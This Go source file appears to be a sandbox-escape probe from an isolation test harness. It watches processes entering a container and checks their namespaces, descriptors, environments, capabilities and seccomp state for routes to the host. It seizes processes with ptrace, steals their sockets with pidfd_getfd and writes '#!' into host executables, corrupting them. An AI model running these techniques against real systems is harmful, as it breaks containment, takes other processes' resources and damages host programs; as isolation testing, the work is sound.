package attack

import (
	"bytes"
	"fmt"
	"os"
	"runtime"
	"sort"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"
)

// racer looks at every process that appears in its zone, as soon and as often as it can.
type racer struct {
	old      map[string]bool   // processes that were there before
	spaces   map[string]string // our own namespaces
	mounts   map[uint64]bool   // mounts of our namespace
	root     unix.Statx_t
	self     map[string]string // our own status, by field
	sentinel string            // a file of the host, from its root
	secret   string            // in the environment of who enters
	looks    int
	told     int // of how many processes
	processes, traced, guarded,
	programs map[string]bool
	exes  map[string]int // by device and inode: O_PATH descriptors to write through later
	found map[string]bool
}

const statxMask = unix.STATX_BASIC_STATS | unix.STATX_MNT_ID

// exesMax is how many programs are held at once.
const exesMax = 128

// race searches everybody who enters until its input ends. The search is the one of who wants to
// get out: namespaces, descriptors and directories of the host, the file of the program that
// enters, its environment, and its mind, by ptrace.
func race(sentinel, secret string) error {
	runtime.LockOSThread() // tracees are a thread's
	r := &racer{
		old: map[string]bool{"self": true, "thread-self": true}, spaces: map[string]string{}, self: status("self"),
		sentinel: strings.TrimPrefix(sentinel, "/"), secret: secret,
		processes: map[string]bool{}, traced: map[string]bool{}, guarded: map[string]bool{}, programs: map[string]bool{},
		exes: map[string]int{}, found: map[string]bool{},
	}
	for _, ns := range []string{"user", "pid", "mnt", "uts", "ipc", "net", "cgroup"} {
		r.spaces[ns], _ = os.Readlink("/proc/self/ns/" + ns)
	}
	if err := unix.Statx(unix.AT_FDCWD, "/", 0, statxMask, &r.root); err != nil {
		return err
	}
	for _, pid := range processes() {
		r.old[pid] = true
	}
	r.readMounts()
	fmt.Println(there)
	for !ended() {
		for _, pid := range processes() {
			if !r.old[pid] {
				r.search(pid)
			}
		}
		r.writeExes()
		if len(r.processes) >= r.told+progressEvery {
			r.progress()
		}
	}
	r.report()
	return nil
}

func processes() (pids []string) {
	d, err := os.Open("/proc")
	if err != nil {
		return nil
	}
	defer d.Close()
	names, _ := d.Readdirnames(-1)
	for _, n := range names {
		if n[0] >= '0' && n[0] <= '9' {
			pids = append(pids, n)
		}
	}
	return pids
}

func status(pid string) map[string]string {
	text, _ := os.ReadFile("/proc/" + pid + "/status")
	fields := map[string]string{}
	for line := range strings.Lines(string(text)) {
		if k, v, ok := strings.Cut(line, ":"); ok {
			fields[k] = strings.TrimSpace(v)
		}
	}
	return fields
}

func (r *racer) readMounts() {
	r.mounts = map[uint64]bool{}
	text, _ := os.ReadFile("/proc/self/mountinfo")
	for line := range strings.Lines(string(text)) {
		id, _ := strconv.ParseUint(strings.Fields(line)[0], 10, 64)
		r.mounts[id] = true
	}
}

// reach says at once what was reached, once.
func (r *racer) reach(format string, args ...any) {
	if what := fmt.Sprintf(format, args...); !r.found[what] {
		r.found[what] = true
		reach("%s", what)
	}
}

func (r *racer) search(pid string) {
	r.looks++
	r.processes[pid] = true
	dir := "/proc/" + pid + "/"
	program, err := os.Readlink(dir + "exe")
	if err == nil {
		r.programs[program] = true
	} else if err.(*os.PathError).Err == unix.EACCES {
		r.guarded[pid] = true
	}
	for ns, own := range r.spaces {
		if is, err := os.Readlink(dir + "ns/" + ns); err == nil && is != own {
			r.reach("the %s namespace of %s, %s", ns, program, is)
		}
	}
	for _, where := range []string{"cwd", "root"} {
		r.place(dir+where, program+"'s "+where)
	}
	if names, err := os.ReadDir(dir + "fd"); err == nil {
		for _, n := range names {
			r.descriptor(pid, n.Name(), program)
		}
	}
	if env, err := os.ReadFile(dir + "environ"); err == nil && bytes.Contains(env, []byte(r.secret)) {
		r.reach("the environment of the host in %s", program)
	}
	if args, err := os.ReadFile(dir + "cmdline"); err == nil && bytes.Contains(args, []byte(r.secret)) {
		r.reach("the arguments of the host in %s", program)
	}
	if fd, err := unix.Open(dir+"exe", unix.O_PATH|unix.O_CLOEXEC, 0); err == nil {
		var st unix.Statx_t
		if unix.Statx(fd, "", unix.AT_EMPTY_PATH, statxMask, &st) == nil {
			key := fmt.Sprintf("%s %d:%d %d", program, st.Dev_major, st.Dev_minor, st.Ino)
			// What lies on the zone's own disk is the zone's to write.
			if _, held := r.exes[key]; !held && len(r.exes) < exesMax && st.Mnt_id != r.root.Mnt_id {
				r.exes[key] = fd
				fd = -1
			}
		}
		_ = unix.Close(fd)
	}
	r.trace(pid)
}

// place judges a directory of another's: whether it leads to the host.
func (r *racer) place(link, what string) {
	fd, err := unix.Open(link, unix.O_PATH|unix.O_CLOEXEC, 0)
	if err != nil {
		return
	}
	defer unix.Close(fd)
	r.opened(fd, what)
}

func (r *racer) opened(fd int, what string) {
	var st unix.Statx_t
	if unix.Statx(fd, "", unix.AT_EMPTY_PATH, statxMask, &st) == nil && !r.mounts[st.Mnt_id] {
		if r.readMounts(); !r.mounts[st.Mnt_id] {
			to, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd))
			// A shell may have made a pipe of a descriptor that was a terminal when its name was read.
			if kind, _, has := strings.Cut(to, ":"); has && (kind == "pipe" || kind == "socket" || kind == "anon_inode") {
				return
			}
			r.reach("a mount that is not the zone's by %s: %s", what, to)
		}
	}
	if st.Mode&unix.S_IFMT != unix.S_IFDIR {
		return
	}
	for _, path := range []string{r.sentinel, strings.Repeat("../", 40) + r.sentinel} {
		if f, err := unix.Openat(fd, path, unix.O_RDONLY|unix.O_CLOEXEC, 0); err == nil {
			_ = unix.Close(f)
			r.reach("a file of the host by %s", what)
		}
	}
}

// descriptor judges one of another's descriptors.
func (r *racer) descriptor(pid, n, program string) {
	link := "/proc/" + pid + "/fd/" + n
	to, err := os.Readlink(link)
	if err != nil {
		return
	}
	what := fmt.Sprintf("descriptor %s of %s, %s", n, program, strings.TrimRight(to, "0123456789]"))
	switch kind, _, _ := strings.Cut(to, ":"); {
	case kind == "pipe" || kind == "anon_inode":
	case kind == "socket":
		r.socket(pid, n, what)
	case strings.HasPrefix(to, "/memfd:"):
		// What a program of the host made and can still be written is its mind.
		if fd, err := unix.Open(link, unix.O_RDWR|unix.O_CLOEXEC, 0); err == nil {
			if seals, err := unix.FcntlInt(uintptr(fd), unix.F_GET_SEALS, 0); err == nil && seals&unix.F_SEAL_WRITE == 0 && !strings.HasPrefix(program, "/usr/lib/svc/") && !strings.HasPrefix(program, "/lib/svc/") {
				r.reach("a memory file, %s", what)
			}
			_ = unix.Close(fd)
		}
	default:
		r.place(link, what)
	}
}

// socket takes the socket itself, where it may, and asks who is at its other end.
func (r *racer) socket(pid, n, what string) {
	id, _ := strconv.Atoi(pid)
	number, _ := strconv.Atoi(n)
	pidfd, err := unix.PidfdOpen(id, 0)
	if err != nil {
		return
	}
	defer unix.Close(pidfd)
	fd, err := unix.PidfdGetfd(pidfd, number, 0)
	if err != nil {
		return
	}
	defer unix.Close(fd)
	// A peer that is not in our pid namespace has the number 0. A socket that has none says so too:
	// only one that is connected counts.
	if _, err := unix.Getpeername(fd); err != nil {
		return
	}
	if c, err := unix.GetsockoptUcred(fd, unix.SOL_SOCKET, unix.SO_PEERCRED); err == nil && c.Pid == 0 && c.Uid != ^uint32(0) {
		r.reach("a socket to the host, %s, its peer's user %d", what, c.Uid)
	}
}

// trace stops the process and looks whether it has more than we: what it has, we then had.
func (r *racer) trace(pid string) {
	id, _ := strconv.Atoi(pid)
	if r.traced[pid] || unix.PtraceSeize(id) != nil {
		return
	}
	r.traced[pid] = true
	if unix.PtraceInterrupt(id) == nil {
		_, _ = unix.Wait4(id, nil, unix.WALL, nil)
	}
	s := status(pid)
	program, _ := os.Readlink("/proc/" + pid + "/exe")
	for _, set := range []string{"CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"} {
		has, _ := strconv.ParseUint(s[set], 16, 64)
		own, _ := strconv.ParseUint(r.self[set], 16, 64)
		if has&^own != 0 {
			r.reach("capabilities %s %x more than ours in %s", set, has&^own, program)
		}
	}
	if s["Seccomp"] != "2" && s["Seccomp"] != "" && s["State"][:1] != "Z" {
		r.reach("a process without the filter of system calls, %s: %s", program, s["Seccomp"])
	}
	_ = unix.PtraceDetach(id)
}

// writeExes tries to write to the programs that were seen: that works once nobody runs them.
func (r *racer) writeExes() {
	for key, fd := range r.exes {
		w, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", fd), unix.O_WRONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			continue
		}
		_, err = unix.Write(w, []byte("#!"))
		_ = unix.Close(w)
		r.reach("the file of a program to write to: %s, %v", key, err)
	}
}

// progressEvery is of how many more processes it is told that they were searched.
const progressEvery = 4

// progress says how far the search has come, for who waits for enough of it.
func (r *racer) progress() {
	r.told = len(r.processes)
	fmt.Println("so far", len(r.processes), len(r.guarded), len(r.traced))
}

func (r *racer) report() {
	r.progress()
	fmt.Printf("searched %d times, processes %d, guarded %d, traced %d\n", r.looks, len(r.processes), len(r.guarded), len(r.traced))
	var names []string
	for p := range r.programs {
		names = append(names, p)
	}
	sort.Strings(names)
	fmt.Println("programs", strings.Join(names, " "))
}
